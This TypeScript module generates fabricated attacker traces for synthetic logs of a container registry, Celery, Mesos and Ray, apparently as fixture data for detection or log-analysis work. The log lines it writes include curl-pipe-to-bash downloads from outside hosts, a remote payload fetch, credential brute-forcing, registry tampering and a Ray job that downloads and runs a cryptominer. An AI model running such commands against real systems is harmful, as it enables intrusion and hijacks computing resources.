// What an intruder leaves in logs of the four systems, in the shapes their sources give: strewn into the made-up logs.
import { comma, hex, ip, iso, pick, uuid, type Writer } from './writing.ts';

const outside = (r: () => number) => `203.0.113.${1 + Math.floor(r() * 20)}`;
const stamp = (now: number) => `${iso(now).slice(0, 23)}000000Z`;

const registry: Writer[] = [
  (now, r) => {
    const client = outside(r);
    let text = '';
    for (let i = 0; i < 12; i++) {
      const request = `go.version=go1.19.8 http.request.host="registry:5000" http.request.id=${uuid(r)} http.request.method=GET http.request.remoteaddr="${client}:${40000 + i}" http.request.uri="/v2/" http.request.useragent="curl/8.5.0"`;
      text += `time="${stamp(now + i * 300)}" level=warning msg="error authorizing context: basic authentication challenge for realm \\"Registry Realm\\": invalid authorization credential" ${request}\n`;
    }
    const request = `go.version=go1.19.8 http.request.host="registry:5000" http.request.id=${uuid(r)} http.request.method=GET http.request.remoteaddr="${client}:40100" http.request.uri="/v2/" http.request.useragent="curl/8.5.0"`;
    return `${text}time="${stamp(now + 9000)}" level=info msg="authorized request" ${request}\n`;
  },
  (now, r) => {
    const client = outside(r);
    const request = (method: string, uri: string) =>
      `time="${stamp(now)}" level=info msg="response completed" go.version=go1.19.8 http.request.host="registry:5000" http.request.id=${uuid(r)} http.request.method=${method} http.request.remoteaddr="${client}:41000" http.request.uri="${uri}" http.request.useragent="python-requests/2.31.0" http.response.status=202 http.response.written=0\n`;
    return (
      request('GET', '/v2/_catalog?n=1000') +
      request('GET', '/v2/team/app/tags/list') +
      request('PUT', '/v2/team/app/manifests/latest') +
      request('DELETE', `/v2/team/app/manifests/sha256:${hex(r, 64)}`)
    );
  },
];

const celery: Writer[] = [
  (now, r) => {
    const task = `deploy.tasks.run_command[${uuid(r)}]`;
    return `[${comma(now)}: INFO/MainProcess] Task ${task} received\n[${comma(now + 4)}: WARNING/ForkPoolWorker-1] ${task}: curl -s http://${outside(r)}/x.sh | bash\n`;
  },
  (now, r) =>
    `[${comma(now)}: ERROR/MainProcess] Process 'ForkPoolWorker-${1 + Math.floor(r() * 8)}' pid:${1000 + Math.floor(r() * 9000)} exited with 'signal 9 (SIGKILL)'\n[${comma(now + 2)}: WARNING/MainProcess] Substantial drift from celery@${pick(r, ['w1', 'w2'])} may mean clocks are out of sync.  Current drift is 3600 seconds.  [orig: ${iso(now).slice(0, 19)} recv: ${iso(now).slice(0, 19)}]\n`,
  (now, r) =>
    `[${comma(now)}: ERROR/MainProcess] Received unregistered task of type 'os.system'.\n[${comma(now + 1)}: CRITICAL/MainProcess] Can't decode message body: DecodeError('${hex(r, 8)}')\n`,
];

const glog = (now: number, r: () => number) => {
  const d = iso(now);
  return `W${d.slice(5, 7)}${d.slice(8, 10)} ${d.slice(11, 23)}${String(Math.floor(r() * 1000)).padStart(3, '0')} ${10000 + Math.floor(r() * 40)} `;
};
const mesos: Writer[] = [
  (now, r) =>
    `${glog(now, r)}master.cpp:9876] Authentication of slave(1)@${outside(r)}:5051 was unsuccessful: Failed to authenticate SASL\n${glog(now, r)}master.cpp:6530] Refusing registration of agent at slave(1)@${outside(r)}:5051 because it is not authenticated\n`,
  (now, r) =>
    `${glog(now, r)}fetcher.cpp:167] Fetching URI 'http://${outside(r)}/payload.tgz'\n${glog(now, r)}http.cpp:1177] HTTP POST for /master/teardown from ${outside(r)}:50000 with User-Agent='curl/8.5.0'\n${glog(now, r)}http.cpp:700] Processing LAUNCH_NESTED_CONTAINER_SESSION call for container '${uuid(r)}'\n`,
];

const ray: Writer[] = [
  (now, r) => {
    const client = outside(r);
    const line = (method: string, path: string) =>
      `${comma(now)}\tINFO web_log.py:233 -- ${client} [${iso(now).slice(8, 10)}/Mar/2026:${iso(now).slice(11, 19)} +0000] '${method} ${path} HTTP/1.1' 200 ${Math.floor(r() * 900)} bytes ${Math.floor(r() * 9000)} us '-' 'python-requests/2.31.0'\n`;
    return `${line('GET', '/api/version')}${line('POST', '/api/jobs/')}${line('DELETE', `/api/jobs/raysubmit_${hex(r, 12)}`)}`;
  },
  (now, r) =>
    `[${comma(now)} I 4021 4021] (gcs_server) job_manager.cc:88: Starting job, entrypoint: bash -c 'curl -fsSL http://${outside(r)}/x -o /tmp/x; chmod +x /tmp/x; /tmp/x -o stratum+tcp://pool.example:3333'\n[${comma(now + 2)} W 4021 4021] (raylet) worker_killing_policy.cc:110: Killing worker ${hex(r, 56)} on ${ip(r)} due to memory pressure\n`,
];

/** By the first word of a node's folder. */
export const ATTACKS: Readonly<Record<string, readonly Writer[]>> = { registry, celery, mesos, ray };
